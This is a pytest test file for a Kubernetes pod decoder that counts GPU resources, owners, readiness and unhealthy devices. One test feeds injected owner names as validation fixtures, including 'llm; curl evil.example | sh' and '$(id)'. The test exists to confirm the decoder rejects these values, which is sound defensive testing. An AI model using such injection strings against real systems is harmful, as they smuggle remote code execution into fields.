"""From a v1.Pod to what is kept of it."""

from __future__ import annotations

import json
from typing import Any

import msgspec
import pytest

from adapter.pipeline.cluster.gpuresources import GpuResources
from adapter.pipeline.cluster.manifest import PodDecoder
from adapter.pipeline.cluster.pod import ContainerPort, Owner, PodRef

FULL: dict[str, Any] = {
    "metadata": {
        "name": "inf-0",
        "namespace": "ml",
        "uid": "u-1",
        "resourceVersion": "5",
        "labels": {"app": "inf"},
        "annotations": {"prometheus.io/port": "8000", "other": "x"},
        "ownerReferences": [
            {"apiVersion": "v1", "kind": "Node", "name": "n"},
            {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "inf-abc", "controller": True},
        ],
        "managedFields": [{"manager": "kubelet"}],
    },
    "spec": {
        "nodeName": "gpu-1",
        "containers": [
            {
                "name": "server",
                "resources": {"limits": {"nvidia.com/gpu": "2", "cpu": "4"}},
                "ports": [
                    {"name": "http", "containerPort": 8000},
                    {"containerPort": 53, "protocol": "UDP"},
                ],
            }
        ],
    },
    "status": {
        "phase": "Running",
        "podIP": "10.0.0.7",
        "conditions": [
            {"type": "Initialized", "status": "True"},
            {"type": "Ready", "status": "True", "lastTransitionTime": "2026-01-02T03:04:05Z"},
        ],
    },
}


def raw(manifest: dict[str, Any]) -> bytes:
    return json.dumps(manifest).encode()


def spec(*containers: dict[str, Any], init: tuple[dict[str, Any], ...] = ()) -> dict[str, Any]:
    return {
        "metadata": {"name": "p"},
        "spec": {"containers": list(containers), "initContainers": list(init)},
    }


def wants(amount: str, resource: str = "nvidia.com/gpu", **more: str) -> dict[str, Any]:
    return {"name": "c", "resources": {"limits": {resource: amount}}, **more}


def test_a_whole_pod_is_reduced_to_what_is_read() -> None:
    pod = PodDecoder().decode(raw(FULL))
    assert pod.ref == PodRef("ml", "inf-0")
    assert (pod.uid, pod.node, pod.ip, pod.phase) == ("u-1", "gpu-1", "10.0.0.7", "Running")
    assert (pod.ready, pod.deleting, pod.claims, pod.holds_gpu) == (True, False, False, True)
    assert pod.labels == {"app": "inf"}
    assert pod.annotations == {"prometheus.io/port": "8000"}
    assert pod.owner == Owner("apps/v1", "ReplicaSet", "inf-abc")
    assert pod.containers == ("server",)
    assert pod.gpus == {"nvidia.com/gpu": 2}
    assert pod.ports == (ContainerPort("http", 8000),)
    assert pod.ready_since == 1767323045


def test_a_pod_that_mounts_a_directory_of_its_node_is_known() -> None:
    volumes: list[dict[str, Any]] = [{"name": "a", "emptyDir": {}}, {"name": "b", "configMap": {}}]
    manifest = spec()
    manifest["spec"]["volumes"] = volumes
    assert not PodDecoder().decode(raw(manifest)).host_paths
    volumes.append({"name": "c", "hostPath": {"path": "/var/lib/kubelet/pod-resources"}})
    assert PodDecoder().decode(raw(manifest)).host_paths


def test_only_a_ready_pod_has_been_ready_since_a_time() -> None:
    rows = [{"type": "Ready", "status": "False", "lastTransitionTime": "2026-01-02T03:04:05Z"}]
    manifest = spec() | {"status": {"conditions": rows}}
    assert PodDecoder().decode(raw(manifest)).ready_since == 0
    rows[0] |= {"status": "True", "lastTransitionTime": "yesterday"}
    pod = PodDecoder().decode(raw(manifest))
    assert (pod.ready, pod.ready_since) == (True, 0)


@pytest.mark.parametrize(
    ("phase", "reason", "trouble"),
    [
        ("Failed", "UnexpectedAdmissionError", "UnexpectedAdmissionError"),
        ("Failed", "OutOfnvidia.com/gpu", "OutOfnvidia.com/gpu"),
        ("Failed", "Evicted", "Evicted"),
        ("Failed", "DeadlineExceeded", ""),
        ("Pending", "UnexpectedAdmissionError", ""),
    ],
)
def test_a_pod_that_the_kubelet_rejects_says_why(phase: str, reason: str, trouble: str) -> None:
    manifest = spec() | {"status": {"phase": phase, "reason": reason}}
    assert PodDecoder().decode(raw(manifest)).trouble == trouble


def test_a_pending_pod_without_anything_is_a_pod() -> None:
    pod = PodDecoder().decode(raw({"metadata": {"name": "p"}, "spec": {"containers": []}}))
    assert (pod.ref, pod.node, pod.ip, pod.ready) == (PodRef("default", "p"), "", "", False)
    assert (pod.owner, pod.holds_gpu) == (None, False)


GPUS = [
    pytest.param(spec(wants("1"), wants("1")), {"nvidia.com/gpu": 2}, id="containers add up"),
    pytest.param(
        spec(wants("1"), init=(wants("1", restartPolicy="Always"),)),
        {"nvidia.com/gpu": 2},
        id="a sidecar runs beside the containers",
    ),
    pytest.param(
        spec(wants("1"), init=(wants("1"),)),
        {"nvidia.com/gpu": 1},
        id="an init container's device is handed on",
    ),
    pytest.param(
        spec(wants("1"), init=(wants("3"),)),
        {"nvidia.com/gpu": 3},
        id="a larger init container decides",
    ),
    pytest.param(spec(init=(wants("1"),)), {"nvidia.com/gpu": 1}, id="an init container alone"),
    pytest.param(spec(wants("0")), {}, id="none asked for"),
    pytest.param(
        spec({"name": "c", "resources": {"requests": {"nvidia.com/gpu": "1"}}}),
        {"nvidia.com/gpu": 1},
        id="a request is enough",
    ),
    pytest.param(
        spec(wants("1", "nvidia.com/gpu.shared")), {"nvidia.com/gpu.shared": 1}, id="gpu."
    ),
    pytest.param(spec(wants("1", "nvidia.com/mig-1g.5gb")), {"nvidia.com/mig-1g.5gb": 1}, id="mig"),
    pytest.param(spec(wants("3k", "nvidia.com/gpumem")), {"nvidia.com/gpumem": 3000}, id="hami"),
    pytest.param(spec(wants("1", "amd.com/gpu")), {"amd.com/gpu": 1}, id="amd"),
    pytest.param(spec(wants("1", "gpu.intel.com/xe")), {"gpu.intel.com/xe": 1}, id="intel"),
    pytest.param(spec(wants("1", "habana.ai/gaudi")), {"habana.ai/gaudi": 1}, id="gaudi"),
    pytest.param(
        spec(wants("1", "volcano.sh/vgpu-number")), {"volcano.sh/vgpu-number": 1}, id="volcano"
    ),
    pytest.param(spec(wants("4", "cpu")), {}, id="a cpu is not a gpu"),
    pytest.param(spec(wants("1", "xnvidia.com/gpu")), {}, id="patterns match the whole name"),
]


@pytest.mark.parametrize(("manifest", "gpus"), GPUS)
def test_gpus_are_counted_as_the_scheduler_does(
    manifest: dict[str, Any], gpus: dict[str, int]
) -> None:
    assert PodDecoder().decode(raw(manifest)).gpus == gpus


def test_a_resource_claim_may_hold_a_gpu_without_any_limit() -> None:
    manifest = spec({"name": "c"})
    manifest["spec"]["resourceClaims"] = [{"name": "gpu", "resourceClaimTemplateName": "one"}]
    pod = PodDecoder().decode(raw(manifest))
    assert (pod.claims, pod.gpus) == (True, {})
    assert (pod.holds_gpu, pod.may_hold_gpu) == (False, True)


def test_the_list_of_gpu_resources_can_be_replaced() -> None:
    decoder = PodDecoder(GpuResources(("example.com/npu*",)))
    assert decoder.decode(raw(spec(wants("2", "example.com/npu-x")))).gpus == {
        "example.com/npu-x": 2
    }
    assert not decoder.decode(raw(spec(wants("1")))).holds_gpu
    assert not PodDecoder(GpuResources(())).decode(raw(spec(wants("1")))).holds_gpu


def test_pods_of_one_workload_share_their_labels() -> None:
    decoder = PodDecoder()
    one, two = (decoder.decode(raw(FULL)) for _ in range(2))
    assert one.labels is two.labels
    assert one.node is two.node
    assert one.owner is two.owner


def test_an_owner_is_not_mistaken_for_equal_container_names() -> None:
    manifest = spec({"name": "v1"}, {"name": "Node"}, {"name": "n"})
    manifest["metadata"]["ownerReferences"] = [
        {"apiVersion": "v1", "kind": "Node", "name": "n", "controller": True}
    ]
    pod = PodDecoder().decode(raw(manifest))
    assert isinstance(pod.owner, Owner)
    assert pod.containers == ("v1", "Node", "n")


@pytest.mark.parametrize(
    "changed",
    [
        {"name": "llm; curl evil.example | sh"},
        {"name": "$(id)"},
        {"name": "llm\x1b[2J"},
        {"name": "x" * 254},
        {"kind": "StatefulSet\n"},
        {"kind": "K" * 100_000},
        {"apiVersion": "apps/v1 "},
    ],
    ids=lambda changed: str(changed)[:40],
)
def test_an_owner_that_cannot_exist_is_left_out(changed: dict[str, str]) -> None:
    manifest = spec({"name": "a"})
    owner = {"apiVersion": "apps/v1", "kind": "StatefulSet", "name": "llm", "controller": True}
    manifest["metadata"]["ownerReferences"] = [owner | changed]
    assert PodDecoder().decode(raw(manifest)).owner is None
    manifest["metadata"]["ownerReferences"] = [owner]
    assert PodDecoder().decode(raw(manifest)).owner == Owner("apps/v1", "StatefulSet", "llm")


@pytest.mark.parametrize(
    ("manifest", "path"),
    [
        ({"spec": {}}, "metadata"),
        ({"metadata": {"name": 5}}, "$.metadata.name"),
        ({"metadata": {"name": "p", "labels": {"a": True}}}, "$.metadata.labels"),
    ],
)
def test_what_is_not_a_pod_is_rejected_with_the_field_named(
    manifest: dict[str, Any], path: str
) -> None:
    with pytest.raises(msgspec.ValidationError) as caught:
        PodDecoder().decode(raw(manifest))
    assert path in str(caught.value)


def test_devices_that_the_kubelet_reports_unhealthy_are_kept() -> None:
    """As of KEP-4680: NVIDIA's plugin reports a device after an XID error of the hardware."""
    rows = [
        {"resourceID": "GPU-a", "health": "Healthy"},
        {"resourceID": "GPU-b", "health": "Unhealthy"},
        {"resourceID": "GPU-c", "health": "Unknown"},
    ]
    status = [
        {"name": "c", "allocatedResourcesStatus": [{"name": "nvidia.com/gpu", "resources": rows}]}
    ]
    manifest = FULL | {"status": {**FULL["status"], "containerStatuses": status}}
    pod = PodDecoder().decode(json.dumps(manifest).encode())
    assert pod.unhealthy == ("GPU-b of nvidia.com/gpu",)
    assert PodDecoder().decode(json.dumps(FULL).encode()).unhealthy == ()
